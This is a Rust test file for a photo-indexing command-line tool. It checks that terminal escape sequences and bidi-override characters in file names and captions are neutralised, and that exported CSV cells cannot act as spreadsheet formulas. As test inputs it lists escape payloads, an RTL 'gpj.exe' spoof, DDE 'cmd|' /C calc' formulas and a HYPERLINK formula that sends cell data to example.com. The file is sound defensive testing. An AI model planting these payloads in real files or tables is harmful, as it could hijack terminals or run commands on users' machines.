//! Names and captions that give orders to terminals and spreadsheets.

use std::ffi::OsStr;
use std::fs;
use std::os::unix::ffi::OsStrExt;
use std::path::PathBuf;
use std::process::Output;

use crate::harness::{World, root};

/// Texts that give a terminal orders, or change the direction of what follows.
const ORDERS: [&str; 10] = [
    "\x1b]0;PWNED\x07\x1b[2Jx",
    "\x1b[31mred",
    "a\nFORGED.jpg: a line of its own",
    "a\rb",
    "\u{9b}31m dog",
    "\u{9d}0;PWNED\u{9c}",
    "\u{8}\u{8}\u{8}\u{7f}",
    "\u{202e}gpj.exe",
    "\u{2066}a\u{2069}\u{200f}",
    "a\u{2028}b\u{85}c",
];

fn is_order(letter: char) -> bool {
    letter.is_control() && letter != '\n'
        || matches!(letter, '\u{2028}' | '\u{2029}' | '\u{200e}' | '\u{200f}' | '\u{61c}')
        || ('\u{202a}'..='\u{202e}').contains(&letter)
        || ('\u{2066}'..='\u{2069}').contains(&letter)
}

/// Neither stream holds an order, and no line is one that a name forged.
fn assert_harmless(output: &Output, what: &str) {
    for stream in [&output.stdout, &output.stderr] {
        let text = String::from_utf8_lossy(stream);
        assert!(!text.chars().any(is_order), "{what}: {text:?}");
        assert!(!text.lines().any(|line| line.starts_with("FORGED")), "{what}: {text:?}");
    }
}

fn sidecar(caption: &str) -> String {
    let text = caption.replace('&', "&amp;").replace('<', "&lt;");
    format!(
        r#"<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:description><rdf:Alt><rdf:li xml:lang="x-default">{text}</rdf:li></rdf:Alt></dc:description></rdf:Description></rdf:RDF></x:xmpmeta>"#
    )
}

/// A photo under a name, with a caption beside it.
fn captioned(world: &World, name: &str, caption: &str) -> PathBuf {
    let photo = world.photos().join(name);
    fs::copy(root().join("assets/samples/lock.jpg"), &photo).unwrap();
    fs::write(world.photos().join(format!("{name}.xmp")), sidecar(caption)).unwrap();
    photo
}

#[test]
fn no_name_and_no_caption_gives_a_terminal_orders() {
    let world = World::new();
    for (number, order) in ORDERS.iter().enumerate() {
        // One that cannot be read, one that can, and a folder to teach from.
        fs::write(world.photos().join(format!("{order} broken.jpg")), "broken").unwrap();
        let folder = world.photos().join(format!("{order} folder"));
        fs::create_dir(&folder).unwrap();
        let sample = ["boats.jpg", "desk.jpg", "beach.jpg", "coffee.png"][number % 4];
        let ending = if sample.ends_with("png") { "png" } else { "jpg" };
        fs::copy(root().join("assets/samples").join(sample), folder.join(format!("{order}.{ending}"))).unwrap();
    }
    fs::write(world.photos().join(OsStr::from_bytes(b"\xff\xfe\x1b[2J.jpg")), "broken").unwrap();
    let photos = world.photos().to_str().unwrap().to_owned();
    for args in [
        vec!["index", &photos],
        vec!["index", "--json", &photos],
        vec!["problems"],
        vec!["problems", "--json"],
        vec!["status"],
        vec!["search", "a boat"],
        vec!["search", "--json", "a boat"],
        vec!["duplicates"],
        vec!["duplicates", "--json"],
        vec!["teach", "--dry-run", "--folders", &photos],
        vec!["teach", "--dry-run", "--json", "--folders", &photos],
        vec!["caption", "--overwrite", "all", &photos],
        vec!["doctor"],
    ] {
        let output = world.run(&args);
        assert!(output.status.code().is_some(), "{args:?}");
        assert_harmless(&output, &format!("{args:?}"));
    }
    for order in ORDERS {
        let broken = world.photos().join(format!("{order} broken.jpg"));
        let folder = world.photos().join(format!("{order} folder"));
        let nothing = format!("/no/such/{order}");
        let like = format!("like:\"{}\"", broken.display());
        for args in [
            vec!["similar", broken.to_str().unwrap()],
            vec!["similar", "--json", broken.to_str().unwrap()],
            vec!["caption", broken.to_str().unwrap()],
            vec!["tags", broken.to_str().unwrap()],
            vec!["restore", broken.to_str().unwrap()],
            vec!["teach", "import", broken.to_str().unwrap()],
            vec!["index", &nothing],
            vec!["index", "--json", &nothing],
            vec!["search", &like],
            vec!["search", "--", order],
            // As a shell's `*` would hand it over.
            vec!["caption", &format!("--{order}")],
            vec!["backup", folder.to_str().unwrap()],
        ] {
            let output = world.run(&args);
            assert_harmless(&output, &format!("{args:?}"));
        }
        let name = format!("{}.jpg", order.replace('/', "_"));
        let photo = captioned(&world, &name, &order.replace(['\x1b', '\x07', '\x08'], "\u{9b}"));
        for args in [vec!["caption", photo.to_str().unwrap()], vec!["caption", "--json", photo.to_str().unwrap()]] {
            let output = world.run(&args);
            assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
            assert_harmless(&output, &format!("{args:?}"));
        }
    }
}

#[test]
fn json_keeps_every_letter_of_a_name() {
    let world = World::new();
    for order in ORDERS {
        fs::write(world.photos().join(format!("{order}.jpg")), "broken").unwrap();
    }
    world.index();
    let mut names: Vec<String> = world
        .json(&["problems", "--json"], 0)
        .iter()
        .map(|problem| problem["path"].as_str().unwrap().rsplit('/').next().unwrap().to_owned())
        .collect();
    let mut expected = ORDERS.map(|order| format!("{order}.jpg")).to_vec();
    names.sort();
    expected.sort();
    assert_eq!(names, expected);
}

#[test]
fn no_caption_is_a_formula_in_a_table() {
    let world = World::new();
    let formulas = [
        "=HYPERLINK(\"http://example.com/?\"&A1,\"open\")",
        "=1+1",
        "+1+1",
        "-1+cmd|' /C calc'!A0",
        "@SUM(1,1)",
        "=cmd|' /C notepad'!'A1'",
        "=IMPORTXML(\"http://example.com\",\"//a\")",
        "\u{ff1d}1+1",
        "  =1+1",
        "-2",
    ];
    for (number, formula) in formulas.iter().enumerate() {
        captioned(&world, &format!("{number}.jpg"), formula);
    }
    captioned(&world, "x.jpg", "a lock = a lock");
    let table = world.photos().with_file_name("t.csv");
    // Paths from the folder of the photos, of which one begins like a formula.
    fs::rename(world.photos().join("9.jpg"), world.photos().join("=9.jpg")).unwrap();
    fs::rename(world.photos().join("9.jpg.xmp"), world.photos().join("=9.jpg.xmp")).unwrap();
    let mut command = world.command(&["caption", "--csv", table.to_str().unwrap(), "."]);
    let output = command
        .current_dir(world.photos())
        .args(["=9.jpg"])
        .env("SIGHTLINE_MODEL", root().join("assets/models/home-1"))
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    let text = fs::read_to_string(&table).unwrap();
    // Every cell, however it is quoted.
    let mut cells = Vec::new();
    let (mut cell, mut is_quoted) = (String::new(), false);
    for letter in text.chars() {
        match letter {
            '"' => is_quoted = !is_quoted,
            ',' | '\n' if !is_quoted => cells.push(std::mem::take(&mut cell)),
            letter => cell.push(letter),
        }
    }
    assert!(cells.len() >= 48, "{text}");
    for cell in &cells {
        assert!(!cell.trim_start().starts_with(['=', '+', '-', '@', '\u{ff1d}']), "{cell:?} in {text}");
    }
    for formula in formulas {
        let bare = formula.trim().replace('"', "");
        assert!(
            cells.iter().any(|cell| cell.starts_with('\'') && cell.contains(&bare)),
            "{formula} is missing: {text}"
        );
    }
    assert!(cells.iter().any(|cell| cell == "'=9.jpg") && cells.iter().any(|cell| cell == "a lock = a lock"), "{text}");
}
